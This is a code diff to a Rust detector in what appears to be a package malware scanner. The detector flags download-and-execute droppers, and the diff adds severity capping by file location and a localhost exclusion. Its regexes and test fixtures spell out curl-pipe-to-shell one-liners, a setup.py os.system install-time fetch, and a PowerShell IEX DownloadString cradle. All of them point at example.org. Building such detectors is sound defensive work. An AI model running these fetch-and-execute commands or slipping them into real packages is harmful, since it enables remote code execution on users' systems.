@@ -3,9 +3,11 @@
 //! by a process start / `os.startfile` / `chmod +x`, or a one-liner string such as
 //! `curl … | sh` or `iex (New-Object Net.WebClient).DownloadString(…)`.
 //!
-//! Python code only for calls; strings for one-liners. Tests are lowered to High,
-//! never skipped: this is the dropper pattern itself.
+//! Python code only for calls; strings for one-liners. Never skipped (this is the
+//! dropper pattern itself) but capped by place (`context`): tests/docs/CI medium,
+//! scripts not run at install high, data files and web assets low.
 
+use super::context;
 use super::net_downloads_file::{COMMAND, FETCH_API};
 use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
 use super::sinks::{self, SinkKind};
@@ -28,7 +30,7 @@ static EXEC_FETCH: LazyLock<Regex> = LazyLock::new(|| {
 });
 /// Pipes from a downloader into an interpreter, or PowerShell download cradles.
 static PIPE: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*(?:sudo\s+)?(?:ba|z)?sh(?-u:\b)|(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*python[\d.]*(?-u:\b)|(?-u:\b)(?:iex|invoke-expression)(?-u:\b)[^\n]{0,40}(?:downloadstring|invoke-webrequest|iwr)(?-u:\b)|(?-u:\b)downloadstring\s*\([^\n]{0,200}\)\s*\|\s*iex(?-u:\b)").expect("pipe")
+    Regex::new(r"(?i)(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*(?:sudo\s+)?(?:ba|z)?sh(?-u:\b)|(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|'\x22]*\|\s*python[\d.]*(?-u:\b)|(?-u:\b)(?:iex|invoke-expression)\s*[ \t(][^\n]{0,40}(?:downloadstring|invoke-webrequest|iwr)(?-u:\b)|(?-u:\b)downloadstring\s*\([^\n]{0,200}\)\s*\|\s*iex(?-u:\b)").expect("pipe")
 });
 /// Running or making executable what was saved.
 static RUN_SAVED: LazyLock<Regex> = LazyLock::new(|| {
@@ -39,6 +41,13 @@ const WINDOW_LINES: usize = 30;
 /// A new function or class starts: the download and the run are unrelated.
 static NEW_BLOCK: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"\n[ \t]*(?:async[ \t]+)?(?:def|class)[ \t]").expect("new block"));
+
+/// A command whose URL (starting right after `://`) is the local machine:
+/// `curl http://localhost:4000/health` checks a server, it downloads nothing.
+fn to_loopback(rest: &str) -> bool {
+    let host = rest.split(['/', ':', ' ', '\'', '"', '\n']).next().unwrap_or("");
+    matches!(host, "localhost" | "127.0.0.1" | "0.0.0.0") || rest.starts_with("[::1]")
+}
 
 pub struct DownloadExecute;
 
@@ -66,8 +75,8 @@ impl Detector for DownloadExecute {
         if file.role == FileRole::Metadata {
             return;
         }
-        let test = file.role == FileRole::TestOrDocs || pysrc::looks_like_test_path(file.path);
-        let sev = Some(if test { Severity::High } else { Severity::Critical });
+        // Tests/docs/CI medium, scripts not run at install high, data and web assets low.
+        let sev = Some(context::cap(file, Severity::Critical));
         let src = Source::new(file);
         let mut n = 0;
         let mut push = |hits: &mut Hits, off: usize, ind: &str| {
@@ -99,7 +108,10 @@ impl Detector for DownloadExecute {
             .chain(file.text.match_indices("urlretrieve").map(|(i, _)| (i, false)))
             .filter(|&(o, _)| src.is_code(o) && !pysrc::is_definition(file.text, o))
             .chain(
-                COMMAND.find_iter(file.text).map(|m| (m.start(), false)).filter(|&(o, _)| src.kind_at(o) == Kind::Str),
+                COMMAND
+                    .find_iter(file.text)
+                    .filter(|m| src.kind_at(m.start()) == Kind::Str && !to_loopback(&file.text[m.end()..]))
+                    .map(|m| (m.start(), false)),
             )
             .collect();
         if saves.is_empty() {
@@ -167,7 +179,17 @@ mod tests {
                     "urlretrieve(U, p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n",
                     Some((2, "download then os.chmod", Critical)),
                 ),
-                ("install script in shell file", "pkg/i.sh", Runtime, "curl https://example.org/x | bash\n", Some((1, "curl", Critical))),
+                ("install script in shell file", "pkg/i.sh", Runtime, "curl https://example.org/x | bash\n", Some((1, "curl", High))),
+                ("curl pipe sh in setup.py os.system", "setup.py", InstallTime, "import os\nos.system('curl -fsSL https://example.org/i.sh | sh')\n", Some((2, "curl", Critical))),
+                ("ci image script", "pkg-1.0/m/ci/ciimage/opensuse/install.sh", Runtime, "curl -fsS https://example.org/install.sh | bash -s dmd\n", Some((1, "curl", Medium))),
+                ("docs build script", "pkg-1.0/build-docs.sh", TestOrDocs, "curl -LsSf https://example.org/install.sh | sh\n", Some((1, "curl", Medium))),
+                ("web asset listing command names", "pkg/static/chunks/a.js", Other, "var k=\"gsv|gu|iex|ii|ipal|iwr|kill\";var q='curl https://example.org/install.sh | sh';\n", Some((1, "curl", Low))),
+                ("alias list is not a cradle", "pkg/static/chunks/b.js", Other, "var k=\"gsv|gu|iex|ii|ipal|irm|iwr|kill\";\n", None),
+                ("iex cradle in a ps1 script", "pkg/tools/get.ps1", Other, "IEX (New-Object Net.WebClient).DownloadString('https://example.org/a')\n", Some((1, "IEX", High))),
+                ("yaml keyword list", "pkg/data/rules.yaml", Other, "- \"curl | bash\"\n- keyword: \"curl https://example.org/i | bash\"\n", Some((1, "curl", Low))),
+                ("readme install line", "pkg-1.0/README.md", Other, "curl -fsSL https://example.org/install.sh | sh\n", Some((1, "curl", Low))),
+                ("localhost health check then exec of own binary", "pkg/wizard.py", Runtime, "print(f\"  curl http://localhost:{port}/health\")\nos.execlp(b, b, 'proxy')\n", None),
+                ("remote command then run", "pkg/a.py", Runtime, "cmd = 'curl -o /tmp/x https://example.org/x'\nos.system(cmd)\n", Some((2, "download then os.system", Critical))),
                 ("fetch and process far apart", "pkg/a.py", Runtime, FAR.as_str(), None),
                 ("json api then eval-free", "pkg/a.py", Runtime, "r = requests.get(u)\ndata = r.json()\n", None),
                 ("one-liner in docstring", "pkg/a.py", Runtime, "\"\"\"Install: curl https://x | sh\"\"\"\n", None),
